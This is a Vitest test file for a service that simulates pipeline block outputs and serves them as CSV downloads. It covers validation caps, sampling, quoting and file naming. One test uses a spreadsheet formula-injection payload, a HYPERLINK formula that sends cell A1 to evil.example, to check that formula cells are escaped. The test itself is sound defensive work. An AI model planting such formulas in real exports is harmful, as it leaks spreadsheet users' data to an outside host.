import { describe, expect, it } from 'vitest';
import { ApiError } from '../src/errors.js';
import {
  checkSimulatedOutput,
  contentDisposition,
  csvDownload,
  DEFAULT_SAMPLE_COUNT,
  MAX_OUTPUT_BYTES,
  MAX_OUTPUT_COLUMNS,
  MAX_OUTPUT_ROWS,
  outputBytes,
  parseSampleCount,
  sampleOutputs,
  simulatedOutputs,
  type OutputSeed,
  type TableOutput,
} from '../src/orchestration/outputs/sample-outputs.js';

const seed = (over: Partial<OutputSeed> = {}): OutputSeed => ({
  pipeline_uuid: 'bf_aqllb',
  block_uuid: 'load',
  block_type: 'data_loader',
  execution_date: Date.UTC(2026, 10, 1),
  ...over,
});
const refusal = (fn: () => unknown): ApiError => {
  try {
    fn();
  } catch (error) {
    if (error instanceof ApiError) return error;
    throw error;
  }
  throw new Error('expected a refusal');
};
const tableOf = (outputs: ReturnType<typeof simulatedOutputs>): TableOutput => {
  const [output] = outputs;
  if (output?.type !== 'table') throw new Error('expected a table');
  return output;
};

describe('simulated outputs', () => {
  it('a loader and a transformer produce a table, the same for the same pipeline, block and date', () => {
    const first = tableOf(simulatedOutputs(seed(), undefined));
    expect(simulatedOutputs(seed(), {})).toEqual([first]);
    expect(first).toMatchObject({ outputs: null, text_data: null, type: 'table', variable_uuid: 'output_0' });
    expect(first.sample_data.columns).toEqual(['id', 'ds', 'value', 'category']);
    expect(first.shape).toEqual([first.sample_data.rows.length, 4]);
    expect(first.sample_data.rows.length).toBeGreaterThanOrEqual(3);
    expect(first.sample_data.rows.length).toBeLessThanOrEqual(20);
    expect(first.sample_data.rows.every((row) => row[1] === '2026-11-01')).toBe(true);
    expect(tableOf(simulatedOutputs(seed({ block_type: 'transformer' }), null)).sample_data.columns).toEqual(first.sample_data.columns);
    // Another date or block: other data.
    const others = [seed({ execution_date: Date.UTC(2026, 10, 2) }), seed({ block_uuid: 'shape' }), seed({ pipeline_uuid: 'other' })];
    for (const other of others) expect(tableOf(simulatedOutputs(other, undefined)).sample_data.rows).not.toEqual(first.sample_data.rows);
  });

  it('other blocks produce one line of text', () => {
    expect(simulatedOutputs(seed({ block_type: 'data_exporter', block_uuid: 'export' }), undefined)).toEqual([
      { outputs: null, sample_data: null, shape: null, text_data: 'Block export ran (simulated) for 2026-11-01.', type: 'text', variable_uuid: 'output_0' },
    ]);
  });

  it('configuration.simulation.output sets a table, a text or nothing', () => {
    const mage = { simulation: { output: { columns: ['x'], rows: [[1], [2], [3]] } } };
    // block_run-outputs-load.json, verbatim.
    expect(simulatedOutputs(seed(), mage)).toEqual([
      { outputs: null, sample_data: { columns: ['x'], rows: [[1], [2], [3]] }, shape: [3, 1], text_data: null, type: 'table', variable_uuid: 'output_0' },
    ]);
    expect(simulatedOutputs(seed(), { simulation: { output: { text: 'hello' } } })[0]).toMatchObject({ type: 'text', text_data: 'hello' });
    expect(simulatedOutputs(seed(), { simulation: { output: null, duration_ms: 5 } })).toEqual([]);
    // Unusable stored settings fall back to the generated output, as durations do.
    expect(simulatedOutputs(seed(), { simulation: { output: { columns: 'x' } } })).toEqual(simulatedOutputs(seed(), undefined));
  });

  it('checks configured outputs when written, naming each problem and the caps', () => {
    expect(refusal(() => checkSimulatedOutput('x')).errors?.[0]?.path).toBe('block.configuration.simulation.output');
    expect(refusal(() => checkSimulatedOutput({ text: 3 })).message).toBe('simulation.output.text must be a string.');
    expect(refusal(() => checkSimulatedOutput({ columns: [], rows: [] })).message).toContain('list of column names');
    expect(refusal(() => checkSimulatedOutput({ columns: ['a', 'a'], rows: [] })).message).toContain('names "a" twice');
    expect(refusal(() => checkSimulatedOutput({ columns: ['a'], rows: [[1, 2]] })).message).toBe(
      'simulation.output.rows[0] must be a list of 1 values, one per column.',
    );
    expect(refusal(() => checkSimulatedOutput({ columns: ['a'], rows: [[{ nested: 1 }]] })).message).toContain('not a string, number, boolean or null');
    const wide = Array.from({ length: MAX_OUTPUT_COLUMNS + 1 }, (_, i) => `c${i}`);
    expect(refusal(() => checkSimulatedOutput({ columns: wide, rows: [] })).message).toContain(`at most ${MAX_OUTPUT_COLUMNS} are kept`);
    const long = Array.from({ length: MAX_OUTPUT_ROWS + 1 }, (_, i) => [i]);
    expect(refusal(() => checkSimulatedOutput({ columns: ['a'], rows: long })).message).toContain(`at most ${MAX_OUTPUT_ROWS} are kept`);
    const big = refusal(() => checkSimulatedOutput({ text: 'x'.repeat(MAX_OUTPUT_BYTES) }));
    expect(big.message).toContain(`hold at most ${MAX_OUTPUT_BYTES}`);
    expect(checkSimulatedOutput({ columns: ['a'], rows: Array.from({ length: MAX_OUTPUT_ROWS }, (_, i) => [i]) })[0]?.shape).toEqual([MAX_OUTPUT_ROWS, 1]);
  });

  it('answers cut a sample of sample_count rows (10 by default), the shape still the whole table', () => {
    const outputs = checkSimulatedOutput({ columns: ['n'], rows: Array.from({ length: 25 }, (_, i) => [i]) });
    const sampled = tableOf(sampleOutputs(outputs));
    expect(sampled.sample_data.rows).toHaveLength(DEFAULT_SAMPLE_COUNT);
    expect(sampled.shape).toEqual([25, 1]);
    expect(tableOf(sampleOutputs(outputs, 3)).sample_data.rows).toEqual([[0], [1], [2]]);
    expect(tableOf(outputs).sample_data.rows).toHaveLength(25);
    expect(parseSampleCount(undefined)).toBe(10);
    expect(parseSampleCount('3')).toBe(3);
    expect(parseSampleCount('99999')).toBe(MAX_OUTPUT_ROWS);
    for (const bad of ['0', '-1', 'abc', '1.5']) expect(refusal(() => parseSampleCount(bad)).message).toContain('sample_count must be a whole number from 1');
  });

  it('counts their bytes as the storage caps do', () => {
    const outputs = checkSimulatedOutput({ columns: ['x'], rows: [[1], [2], [3]] });
    expect(outputBytes(outputs)).toBeGreaterThan(0);
    expect(outputBytes([])).toBe(2);
    expect(outputBytes(outputs)).toBeLessThan(outputBytes(checkSimulatedOutput({ columns: ['x'], rows: [[1], [2], [3], [4]] })));
  });
});

describe('the CSV download', () => {
  it("is Mage's: text/csv, attachment; filename=<block>.csv, lines joined by \\n with none at the end", () => {
    const download = csvDownload('load', checkSimulatedOutput({ columns: ['x'], rows: [[1], [2], [3]] }));
    expect(download).toEqual({ body: 'x\n1\n2\n3', contentType: 'text/csv', contentDisposition: 'attachment; filename=load.csv' });
  });

  it('quotes as RFC 4180: commas, quotes and line breaks; null empty; booleans as pandas writes them', () => {
    const outputs = checkSimulatedOutput({
      columns: ['name', 'note', 'ok', 'missing'],
      rows: [
        ['a,b', 'say "hi"', true, null],
        ['line\nbreak', 'cr\rhere', false, 1.5],
      ],
    });
    expect(csvDownload('t', outputs).body).toBe('name,note,ok,missing\n"a,b","say ""hi""",True,\n"line\nbreak","cr\rhere",False,1.5');
    expect(csvDownload('t', checkSimulatedOutput({ columns: ['only'], rows: [[null], ['']] })).body).toBe('only\n""\n""');
  });

  it('escapes cells a spreadsheet would run as formulas with a leading quote; formulas: raw writes them as stored', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const outputs = checkSimulatedOutput({
      columns: ['cell', 'number'],
      rows: [
        [attack, -1.5],
        ['+1+2', 3],
        ['-2+3', 0],
        ['@SUM(A1)', 1],
        ['\tX', 2],
        ['plain = text', -7],
      ],
    });
    expect(csvDownload('t', outputs).body).toBe(
      'cell,number\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5\n\'+1+2,3\n\'-2+3,0\n\'@SUM(A1),1\n\'\tX,2\nplain = text,-7',
    );
    expect(csvDownload('t', outputs, { formulas: 'raw' }).body).toBe(
      'cell,number\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5\n+1+2,3\n-2+3,0\n@SUM(A1),1\n\tX,2\nplain = text,-7',
    );
  });

  it('is empty for a block without a table, and refused past its cap', () => {
    expect(csvDownload('export', checkSimulatedOutput({ text: 'done' })).body).toBe('');
    expect(csvDownload('export', []).body).toBe('');
    const outputs = checkSimulatedOutput({ columns: ['x'], rows: Array.from({ length: 100 }, (_, i) => [i]) });
    expect(refusal(() => csvDownload('load', outputs, { maxBytes: 50 })).message).toBe("The CSV of block load's output is over 50 bytes; it is not sent.");
    // The largest stored table stays within the default cap, even with every value quoted.
    const worst = checkSimulatedOutput({ columns: ['q'], rows: Array.from({ length: 900 }, () => ['"'.repeat(60)]) });
    expect(csvDownload('w', worst).body.length).toBeGreaterThan(outputBytes(worst));
  });

  it('names a file that is not a plain token safely', () => {
    expect(contentDisposition('folder/load.csv')).toBe(`attachment; filename="folder_load.csv"; filename*=UTF-8''folder_load.csv`);
    expect(contentDisposition('données.csv')).toBe(`attachment; filename="donn_es.csv"; filename*=UTF-8''donn%C3%A9es.csv`);
  });
});
